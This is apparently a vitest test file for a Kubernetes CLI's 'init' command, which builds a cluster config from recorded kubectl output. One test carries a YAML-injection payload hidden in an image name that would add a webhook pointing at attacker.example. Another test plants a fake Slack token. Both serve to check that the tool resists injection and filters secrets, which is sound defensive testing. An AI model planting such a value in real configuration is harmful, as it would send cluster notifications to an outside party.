/** `glidepath init`: the first cluster file, read from a live cluster through a recorded kubectl, or the example. */
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { beforeEach, describe, expect, it } from 'vitest';
import { main } from '../../src/cli';
import { chartCannotCarry } from '../../src/config/chart-versions';
import { capturePrintedLines } from '../helpers/console';
import { REMEMBERED } from '../helpers/remembered';
import { recordedKubectl } from '../live/harness';
import {
  API_VERSIONS,
  ARGOCD_DATA,
  type Answer,
  deployment,
  GET_API,
  getConfigMap,
  glidepathConfigMap,
  json,
  list,
  metadata,
  NAMESPACES,
  ROLLOUTS_DATA,
  trackedRollout,
} from '../live/recorded-prod';

const printed = capturePrintedLines();
const TRACKED = 'hangar.io/release-tracked=true';
const ROLLOUTS_CM = 'argo-rollouts-notification-configmap';
const ARGOCD_CM = 'argocd-notifications-cm';
const byName = (name: string) => `get configmaps --all-namespaces --field-selector metadata.name=${name} -o json`;

/** What prod answers to init's reads: a platform Argo CD in argocd beside the tenant one in argocd-apps. */

function liveProd(): Record<string, Answer> {
  const rolloutsMap = glidepathConfigMap(ROLLOUTS_CM, 'argo-rollouts', ROLLOUTS_DATA);
  const argocdMap = glidepathConfigMap(ARGOCD_CM, 'argocd-apps', ARGOCD_DATA);
  const platformMap = { apiVersion: 'v1', kind: 'ConfigMap', metadata: metadata(ARGOCD_CM, 'argocd'), data: {} };
  return {
    [GET_API]: API_VERSIONS,
    'get --raw /version': json({ major: '1', minor: '28', gitVersion: 'v1.28.15' }),
    'get rollouts.argoproj.io --all-namespaces -o json': json(list(NAMESPACES.map((ns) => trackedRollout(ns)))),
    'get deployments --all-namespaces -o json': json(
      list([
        deployment('argo-rollouts', 'argo-rollouts', 'quay.io/argoproj/argo-rollouts:v1.9.1'),
        deployment('argocd-notifications-controller', 'argocd', 'quay.io/argoproj/argocd:v2.14.11'),
        deployment('argocd-apps-server', 'argocd-apps', 'quay.io/argoproj/argocd:v3.1.8'),
        deployment('argocd-apps-notifications-controller', 'argocd-apps', 'quay.io/argoproj/argocd:v3.1.8'),
      ]),
    ),
    [`get applications.argoproj.io --all-namespaces -l ${TRACKED} -o json`]: json(
      list(NAMESPACES.map((ns) => ({ kind: 'Application', metadata: metadata(ns, 'argocd-apps') }))),
    ),
    [byName(ROLLOUTS_CM)]: json(list([rolloutsMap])),
    [byName(ARGOCD_CM)]: json(list([platformMap, argocdMap])),
    [getConfigMap(ROLLOUTS_CM, 'argo-rollouts')]: json(rolloutsMap),
    [getConfigMap(ARGOCD_CM, 'argocd-apps')]: json(argocdMap),
  };
}

let dir = '';
let calls: string[] = [];
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'glidepath-init-'));
  calls = [];
});

async function init(args: readonly string[], answers: Record<string, Answer> = liveProd()) {
  printed.clear();
  const code = await main(['init', '--clusters', join(dir, 'clusters'), ...args], {
    ...REMEMBERED,
    kubectl: recordedKubectl(answers, calls),
  });
  return { code, out: printed.stdout.join('\n'), err: printed.stderr.join('\n') };
}

const written = (name = 'prod') => readFileSync(join(dir, 'clusters', `${name}.yaml`), 'utf8');

/** The file with the values no cluster says set, as the user sets them. */
function filledIn(text: string): string {
  return text
    .replace('  # ip: 192.168.1.78', '  ip: 192.168.1.78')
    .replace('  # port: 30880', '  port: 30880')
    .replace('  # image: registry.example.com/security/veridor:0.1.0', '  image: registry.hangar.internal/v:0.1.0')
    .replace('  # repo: https://github.com/example/cluster-gitops.git', '  repo: https://example.com/gitops.git');
}

describe('glidepath init --context', () => {
  it('writes what the live cluster says, with the schema modelines, and lists what no read can give', async () => {
    const { code, out, err } = await init(['--cluster', 'prod', '--context', 'prod-admin']);
    expect(err).toBe('');
    const text = written();
    expect(text.split('\n').slice(0, 2)).toEqual([
      expect.stringMatching(/^# yaml-language-server: \$schema=\.\.\/.*schema\/cluster\.schema\.json$/),
      expect.stringMatching(/^# \$schema: \.\.\/.*schema\/cluster\.schema\.json$/),
    ]);
    const file = parse(filledIn(text)) as Record<string, Record<string, unknown>>;
    expect(file.kubernetesVersion).toBe('1.28');
    expect(file.rollouts).toMatchObject({ namespace: 'argo-rollouts', controllerVersion: '1.9.1' });
    expect(file.tracked).toEqual({ namespaces: NAMESPACES });
    // The tenant instance: the one whose Applications are labelled, not the platform one in argocd.
    expect(file.argocd).toMatchObject({
      namespace: 'argocd-apps',
      version: '3.1.8',
      context: { argocdUrl: 'https://argocd-apps.prod.hangar.internal' },
    });
    expect(text).toContain('# Argo CD also runs in argocd.');
    expect(file.prune).toBeUndefined();
    // Each unknown value: its description from the schema, then the commented line.
    expect(text).toContain(
      "  # Not on the cluster (or set relay.host instead). ip: IPv4 or IPv6 address of Glidepath's relay",
    );
    expect(text).toContain('  # ip: 192.168.1.78');
    expect(out).toContain('no read can give relay.ip, relay.port, veridor.image, gitops.repo: set each in');
    expect(out).toContain('until then it does not load; the loader says:');
    expect(code).toBe(3);
    // Read only, and never a Secret.
    expect(calls.every((c) => /^--context prod-admin get /.test(c))).toBe(true);
    expect(calls.some((c) => c.includes('secret'))).toBe(false);
  });

  it('once the values it lists are set, the file renders and passes verify', async () => {
    await init(['--cluster', 'prod', '--context', 'prod-admin', '--relay-ip', '192.168.1.78']);
    expect(written()).toContain('  ip: 192.168.1.78 # from --relay-ip');
    writeFileSync(join(dir, 'clusters', 'prod.yaml'), filledIn(written()));
    printed.clear();
    const code = await main(['verify', '--clusters', join(dir, 'clusters')], REMEMBERED);
    expect(printed.stderr.join('\n')).toBe('');
    expect(code).toBe(0);
  });

  it('proposes the namespaces holding Rollouts, commented, when none is labelled', async () => {
    const answers = liveProd();
    const unlabelled = NAMESPACES.slice(0, 2).map((ns) => {
      const rollout = trackedRollout(ns);
      return { ...rollout, metadata: { ...rollout.metadata, labels: { app: ns } } };
    });
    answers['get rollouts.argoproj.io --all-namespaces -o json'] = json(list(unlabelled));
    const { code } = await init(['--cluster', 'prod', '--context', 'prod-admin'], answers);
    const text = written();
    expect(text).toContain(`  # No Rollout is labelled ${TRACKED} yet. A proposal: the namespaces that hold Rollouts.`);
    expect(text).toContain('  # namespaces:\n  #   - baggage-api\n  #   - boarding-api\n');
    expect(code).toBe(3);
  });

  it("maps a Helm-owned ConfigMap to helm-values, or to configmap with the chart's advice", async () => {
    for (const version of ['2.41.0', '2.32.0']) {
      const answers = liveProd();
      const helmMap = {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: metadata(ROLLOUTS_CM, 'argo-rollouts', {
          labels: { 'app.kubernetes.io/managed-by': 'Helm', 'helm.sh/chart': `argo-rollouts-${version}` },
          annotations: { 'meta.helm.sh/release-name': 'argo-rollouts' },
        }),
        data: { 'service.slack': 'token: $slack-token' },
      };
      answers[getConfigMap(ROLLOUTS_CM, 'argo-rollouts')] = json(helmMap);
      await init(['--cluster', `prod-${version.replaceAll('.', '-')}`, '--context', 'prod-admin'], answers);
      const text = written(`prod-${version.replaceAll('.', '-')}`);
      const rollouts = (parse(text) as { rollouts: Record<string, unknown> }).rollouts;
      const comments = text.replace(/\n\s*# /g, ' ');
      expect(comments).toContain(`rendered by the Helm release argo-rollouts (chart argo-rollouts-${version})`);
      expect(rollouts.extraData).toEqual({ 'service.slack': 'token: $slack-token' });
      if (chartCannotCarry('argo-rollouts', version) === undefined) {
        expect(rollouts).toMatchObject({ delivery: 'helm-values', chartVersion: version });
      } else {
        expect(rollouts.delivery).toBe('configmap');
        expect(comments).toMatch(/in that release, (set|upgrade)/);
      }
    }
  });

  it("copies the team's keys into extraData, its subscriptions apart from glidepath's, never a secret", async () => {
    const answers = liveProd();
    const data = {
      ...ROLLOUTS_DATA,
      'service.webhook.team-hook': 'url: http://hooks.example.com/payments\n',
      'service.slack': 'token: xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx\n',
      subscriptions:
        '- recipients: [glidepath-relay]\n  triggers: [glidepath-rollout-state]\n' +
        '- recipients: [team-hook]\n  triggers: [team-rollout-healthy]\n  selector: team=payments\n',
    };
    answers[getConfigMap(ROLLOUTS_CM, 'argo-rollouts')] = json(glidepathConfigMap(ROLLOUTS_CM, 'argo-rollouts', data));
    await init(['--cluster', 'prod', '--context', 'prod-admin'], answers);
    const text = written();
    const { extraData } = (parse(text) as { rollouts: { extraData: Record<string, string> } }).rollouts;
    expect(Object.keys(extraData)).toEqual(['service.webhook.team-hook', 'subscriptions']);
    expect(parse(extraData.subscriptions!)).toEqual([
      { recipients: ['team-hook'], triggers: ['team-rollout-healthy'], selector: 'team=payments' },
    ]);
    expect(text).not.toContain('xoxb-');
    expect(text.replace(/\n\s*# /g, ' ')).toContain('Not copied, as a value looks like a secret: service.slack.');
  });

  it('says what it cannot read: controllers outside the cluster, no /version', async () => {
    const answers = liveProd();
    answers['get deployments --all-namespaces -o json'] = {
      stderr:
        'Error from server (Forbidden): deployments.apps is forbidden: User "dev@hangar.io" cannot list resource ' +
        '"deployments" in API group "apps" at the cluster scope\n',
      code: 1,
    };
    answers['get --raw /version'] = { stderr: 'Error from server (NotFound): the server could not find it', code: 1 };
    const { err } = await init(['--cluster', 'prod', '--context', 'prod-admin'], answers);
    expect(err).toContain('warning: cannot read Deployments in all namespaces: forbidden: your kubeconfig user may');
    const text = written();
    const file = parse(text) as Record<string, Record<string, unknown>>;
    // Found by their ConfigMaps; their releases stay commented.
    expect(file.rollouts).toMatchObject({ namespace: 'argo-rollouts' });
    expect(file.rollouts!.controllerVersion).toBeUndefined();
    expect(text).toContain("No Deployment runs the Argo Rollouts controller's image here");
    expect(text).toContain('# kubernetesVersion: "1.28"');
  });

  it('keeps what the cluster says on its line: a newline in an image, a long or multi-line context value', async () => {
    const answers = liveProd();
    const injected =
      'x\n  extraData:\n    service.webhook.audit: "url: https://attacker.example"\n#/argo-rollouts:v1.9.1';
    answers['get deployments --all-namespaces -o json'] = json(
      list([
        deployment('argo-rollouts', 'argo-rollouts', `quay.io/argoproj/argo-rollouts:v1.9.1${injected}`),
        deployment('argocd-apps-notifications-controller', 'argocd-apps', 'quay.io/argoproj/argocd:v3.1.8'),
      ]),
    );
    const footer = 'Sent by Argo CD of the platform team; questions go to the platform channel, '.repeat(3);
    const argocdMap = glidepathConfigMap(ARGOCD_CM, 'argocd-apps', {
      ...ARGOCD_DATA,
      context:
        `argocdUrl: https://argocd-apps.prod.hangar.internal\nfooter: ${footer}\n` +
        'notes: |\n  one\n  two\nempty: ~\n',
    });
    answers[byName(ARGOCD_CM)] = json(list([argocdMap]));
    answers[getConfigMap(ARGOCD_CM, 'argocd-apps')] = json(argocdMap);
    await init(['--cluster', 'prod', '--context', 'prod-admin', '--relay-ip', '192.168.1.78'], answers);
    const file = parse(written()) as Record<string, Record<string, unknown>>;
    expect(file.rollouts!.extraData).toBeUndefined();
    expect(written()).not.toContain('\n  extraData:\n    service.webhook.audit');
    expect(file.argocd!.context).toEqual({
      argocdUrl: 'https://argocd-apps.prod.hangar.internal',
      footer: footer.trimEnd(),
      notes: 'one\ntwo\n',
      empty: '',
    });
  });

  it('refuses an empty --context (an unset variable): kubectl would read the current context', async () => {
    const { code, err } = await init(['--cluster', 'prod', '--context', '']);
    expect(err).toContain('--context: empty (an unset variable?); kubectl would read the current context');
    expect(code).toBe(2);
    expect(calls).toEqual([]);
    expect(existsSync(join(dir, 'clusters', 'prod.yaml'))).toBe(false);
  });

  it('writes nothing when kubectl cannot reach the cluster', async () => {
    const answers = liveProd();
    answers[GET_API] = { stderr: 'Unable to connect to the server: dial tcp 10.0.0.1:6443: i/o timeout', code: 1 };
    const { code, err } = await init(['--cluster', 'prod', '--context', 'prod-admin'], answers);
    expect(err).toContain('cannot reach a Kubernetes API through kubectl context prod-admin');
    expect(code).toBe(1);
    expect(existsSync(join(dir, 'clusters', 'prod.yaml'))).toBe(false);
  });
});

describe('glidepath init (the example)', () => {
  it('writes the annotated example under the cluster name; it renders and passes verify as is', async () => {
    const { code, out, err } = await init(['--cluster', 'staging']);
    expect(err).toBe('');
    expect(out).toContain('0 violations');
    expect(code).toBe(0);
    const text = written('staging');
    expect(text).toMatch(/^# yaml-language-server: \$schema=\.\.\/.*cluster\.schema\.json\n# \$schema: /);
    expect(parse(text)).toMatchObject({ name: 'staging', gitops: { path: 'clusters/staging/glidepath' } });
    expect(calls).toEqual([]);
  });

  it('never overwrites a cluster file (.yaml or .yml), and refuses a name that is no DNS label', async () => {
    await init(['--cluster', 'staging']);
    const before = written('staging');
    const again = await init(['--cluster', 'staging']);
    expect(again.err).toContain('clusters/staging.yaml already exists: init never overwrites a cluster file');
    expect(again.code).toBe(2);
    expect(written('staging')).toBe(before);
    writeFileSync(join(dir, 'clusters', 'qa.yml'), 'name: qa\n');
    expect((await init(['--cluster', 'qa'])).err).toContain('qa.yml already exists');
    const bad = await init(['--cluster', 'Prod']);
    expect(bad.err).toContain('--cluster: "Prod" is no cluster name');
    expect(bad.code).toBe(2);
  });
});
